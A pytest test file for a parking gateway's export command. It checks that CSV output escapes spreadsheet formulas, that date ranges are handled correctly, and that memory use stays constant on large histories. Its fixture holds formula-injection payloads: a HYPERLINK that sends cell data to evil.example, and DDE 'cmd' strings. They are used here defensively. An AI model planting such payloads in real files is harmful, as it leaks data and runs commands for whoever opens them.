"""``parking-gateway export`` on real database files written by the gateway's own store:
hostile text is exported as data (a spreadsheet never runs a plate or a reason as a
formula), the range is [from, to) on UTC days, and a big history streams through in
constant memory. About 2 s.
"""

from __future__ import annotations

import csv
import json
import tracemalloc
from pathlib import Path

import pytest

from gateway.__main__ import main
from gateway.ops.export import export, parse_range
from gateway.store import events, saga_log
from gateway.store.db import Database

HOSTILE = {
    "plate": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "reason": "+cmd|' /C calc'!A0",
    "note": "-2+3",
    "who": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def make_database(path: Path) -> None:
    """A gate's database with a day of records carrying hostile text (a plate read off a
    sign, a reason from a service), and records either side of that day."""
    db = Database(path)
    try:
        with db.transaction() as conn:
            for day, hour in (("2026-11-30", "23"), ("2026-12-01", "00"),
                              ("2026-12-01", "23"), ("2026-12-02", "00")):
                ts = f"{day}T{hour}:59:59.999+00:00" if hour == "23" else \
                    f"{day}T{hour}:00:00.000+00:00"
                events.append(conn, gate_id="g", type="entry_denied", ts=ts, lane_id="entry-1",
                              wall_synced=True, data={"license_plate": HOSTILE["plate"],
                                                      "reason": HOSTILE["reason"]})
                saga_id = f"saga-{day}-{hour}"
                saga_log.create(conn, saga_id=saga_id, kind="entry", gate_id="g",
                                lane_id="entry-1", plate=HOSTILE["plate"],
                                context={"image_jpeg_b64": "AAAA"}, now=ts)
                saga_log.set_status(conn, saga_id, "compensated", HOSTILE["reason"], ts)
                conn.execute(
                    "INSERT INTO vehicle_sessions(plate, space_id, entry_saga_id, entered_at, "
                    "status, flags) VALUES (?, 'A-001', ?, ?, 'inside', ?)",
                    (HOSTILE["plate"], saga_id, ts, HOSTILE["note"]))
    finally:
        db.close()


def test_hostile_text_is_exported_as_data(tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    database = tmp_path / "copy.sqlite3"
    make_database(database)
    out = tmp_path / "out"
    out.mkdir()
    assert main(["export", "--from", "2026-12-01", "--to", "2026-12-01", "--what", "all",
                 "--database", str(database), "--out", str(out)]) == 0
    said = capsys.readouterr().err
    assert "2 sessions from 2026-12-01T00:00:00.000+00:00 to 2026-12-02T00:00:00.000+00:00" \
        in said
    files = sorted(p.name for p in out.iterdir())
    assert files == ["events-2026-12-01-2026-12-01.csv", "sagas-2026-12-01-2026-12-01.csv",
                     "sessions-2026-12-01-2026-12-01.csv"]
    cells = []
    for name in files:
        with open(out / name, newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        assert len(rows) == 2, name  # 00:00:00.000 and 23:59:59.999; not the days around
        cells += [cell for row in rows for cell in row.values()]
    # no cell a spreadsheet would take for a formula; the text itself is all there
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{HOSTILE['plate']}" in cells and f"'{HOSTILE['reason']}" in cells
    assert f"'{HOSTILE['note']}" in cells
    assert not any("image_jpeg_b64" in c for c in cells)  # the saga's context stays out


def test_json_lines_carry_the_values_unchanged(tmp_path: Path) -> None:
    database = tmp_path / "copy.sqlite3"
    make_database(database)
    target = tmp_path / "events.jsonl"
    start, end = parse_range("2026-12-01T00:00:00Z", "2026-12-02T00:00:00+00:00")
    [written] = export(database, ["events"], start, end, "jsonl", target)
    assert written.rows == 2 and written.path == target
    lines = [json.loads(line) for line in target.read_text().splitlines()]
    assert [e["data"]["license_plate"] for e in lines] == [HOSTILE["plate"]] * 2
    assert [e["ts"] for e in lines] == ["2026-12-01T00:00:00.000+00:00",
                                        "2026-12-01T23:59:59.999+00:00"]


def test_an_existing_file_is_replaced_whole_and_a_bad_target_changes_nothing(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    database = tmp_path / "copy.sqlite3"
    make_database(database)
    target = tmp_path / "sessions.csv"
    target.write_text("old\n")
    assert main(["export", "--from", "2026-12-01", "--to", "2026-12-01", "--database",
                 str(database), "--out", str(target)]) == 0
    assert target.read_text().startswith("session_id,plate,")
    assert main(["export", "--from", "2026-12-01", "--to", "2026-12-01", "--database",
                 str(tmp_path / "none.sqlite3")]) == 1
    assert main(["export", "--from", "2026-12-01", "--to", "2026-12-01", "--what", "all",
                 "--database", str(database), "--out", str(target)]) == 1
    assert "into a directory" in capsys.readouterr().err
    # (a read-only reader of a WAL database leaves its -wal and -shm files)
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("copy.")) == [
        "sessions.csv"]


def test_a_big_history_streams_in_constant_memory(tmp_path: Path) -> None:
    """5,000 events of 1 kB each (5 MB): the export holds under 1 MB at any time (0.2 MB
    measured, the same for 40,000), so it never holds the list of rows (a year of a busy
    gate's events is a few hundred MB)."""
    database = tmp_path / "big.sqlite3"
    db = Database(database, synchronous="off")
    blob = "x" * 1000
    try:
        with db.transaction() as conn:
            conn.executemany(
                "INSERT INTO events(event_id, gate_id, type, ts, wall_synced, lane_id, data) "
                "VALUES (?, 'g', 'plate_read', ?, 1, 'entry-1', ?)",
                ((f"e{i}", f"2026-12-01T{i // 3600 % 24:02d}:{i // 60 % 60:02d}:"
                  f"{i % 60:02d}.000+00:00", json.dumps({"n": i, "blob": blob}))
                 for i in range(5_000)))
    finally:
        db.close()
    start, end = parse_range("2026-12-01", "2026-12-01")
    target = tmp_path / "events.csv"
    tracemalloc.start()
    try:
        [written] = export(database, ["events"], start, end, "csv", target)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert written.rows == 5_000
    assert target.stat().st_size > 5_000_000
    assert peak < 1_000_000, f"export held {peak / 1e6:.1f} MB"
